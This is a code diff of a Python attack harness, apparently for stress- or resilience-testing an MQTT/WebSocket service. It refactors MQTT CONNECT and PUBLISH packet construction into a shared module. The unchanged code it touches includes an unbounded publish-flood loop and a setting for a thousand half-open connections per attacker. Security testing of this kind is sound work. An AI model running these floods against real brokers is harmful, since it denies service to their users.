@@ -20,7 +20,7 @@ from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from multiprocessing.connection import Connection
 
-from mqtt_fleet import length_field
+from mqtt_fleet import connect_packet, publish_packet
 
 HELD = 1000
 """Connections that one attacker keeps open, each with half a request."""
@@ -133,9 +133,9 @@ def _attacks(target: Target, harm: Harm) -> list[Attack]:
     def mqtt_attack(kind: str, message: Callable[[], bytes], retain: bool = False) -> Attack:
         def attack(address: str) -> None:
             with _connected(target.broker_port, address) as broker:
-                broker.sendall(_connect())
+                broker.sendall(connect_packet(f"stranger-{random.getrandbits(32):x}"))
                 while True:
-                    batch = [_publish(target.topic, message(), retain) for _ in range(BATCH)]
+                    batch = [publish_packet(target.topic, message(), retain) for _ in range(BATCH)]
                     broker.sendall(b"".join(batch))
                     harm.done[kind] += BATCH
 
@@ -224,14 +224,3 @@ def _frame(text: bytes) -> bytes:
     else:
         head = struct.pack(">BBQ", 0x81, 0x80 | 127, size)
     return head + bytes(4) + text
-
-
-def _connect() -> bytes:
-    name = f"stranger-{random.getrandbits(32):x}".encode()
-    body = b"\x00\x04MQTT\x04\x02\x00\x3c" + len(name).to_bytes(2, "big") + name
-    return b"\x10" + length_field(len(body)) + body
-
-
-def _publish(topic: str, payload: bytes, retain: bool) -> bytes:
-    body = len(topic).to_bytes(2, "big") + topic.encode() + payload
-    return (b"\x31" if retain else b"\x30") + length_field(len(body)) + body
